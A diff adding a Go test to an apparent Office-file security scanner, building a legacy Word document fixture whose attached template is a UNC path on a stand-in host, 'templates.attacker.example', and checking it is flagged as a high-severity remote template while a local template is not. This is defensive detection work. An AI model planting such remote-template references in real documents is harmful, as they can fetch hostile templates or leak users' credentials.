@@ -360,3 +360,46 @@ func TestLegacyPowerPoint(t *testing.T) {
 	r = legacyReport(t, buildCFB(t, map[string][]byte{"PowerPoint Document": bad}))
 	expect(t, r, "office-structure-anomalies", report.Low, "office-structure-anomalies.records-damaged")
 }
+
+// fibWithTemplate builds a WordDocument stream whose FIB points into a
+// 1Table stream holding an SttbfAssoc with the given attached template.
+func fibWithTemplate(template string) (wordDocument, table []byte) {
+	b := make([]byte, 32)
+	binary.LittleEndian.PutUint16(b, 0xA5EC)
+	binary.LittleEndian.PutUint16(b[0x0A:], 0x0200) // fWhichTblStm: 1Table
+	b = binary.LittleEndian.AppendUint16(b, 14)
+	b = append(b, make([]byte, 28)...)
+	b = binary.LittleEndian.AppendUint16(b, 22)
+	b = append(b, make([]byte, 88)...)
+	b = binary.LittleEndian.AppendUint16(b, 93)
+	rg := make([]byte, 8*93)
+	// SttbfAssoc: extended strings, 18 entries, entry 1 the template.
+	sttb := []byte{0xFF, 0xFF, 18, 0, 0, 0}
+	for i := 0; i < 18; i++ {
+		s := ""
+		if i == 1 {
+			s = template
+		}
+		u := utf16.Encode([]rune(s))
+		sttb = binary.LittleEndian.AppendUint16(sttb, uint16(len(u)))
+		for _, c := range u {
+			sttb = binary.LittleEndian.AppendUint16(sttb, c)
+		}
+	}
+	table = append(make([]byte, 64), sttb...)
+	binary.LittleEndian.PutUint32(rg[8*32:], 64)
+	binary.LittleEndian.PutUint32(rg[8*32+4:], uint32(len(sttb)))
+	return append(append(b, rg...), "Invoice text"...), table
+}
+
+func TestLegacyWordTemplate(t *testing.T) {
+	wd, tbl := fibWithTemplate(`\\templates.attacker.example\share\invoice.dotm`)
+	r := legacyReport(t, buildCFB(t, map[string][]byte{"WordDocument": wd, "1Table": tbl}))
+	l := expect(t, r, "office-external-links", report.High, "office-external-links.remote-template")
+	if links := l.Evidence["links"].([]linkEntry); len(links) != 1 || links[0].Host != "templates.attacker.example" {
+		t.Errorf("links %v", links)
+	}
+	// A local template is how every document is made.
+	wd, tbl = fibWithTemplate(`C:\Users\alice\AppData\Roaming\Microsoft\Templates\Invoice.dotx`)
+	quiet(t, legacyReport(t, buildCFB(t, map[string][]byte{"WordDocument": wd, "1Table": tbl})), "office-external-links")
+}
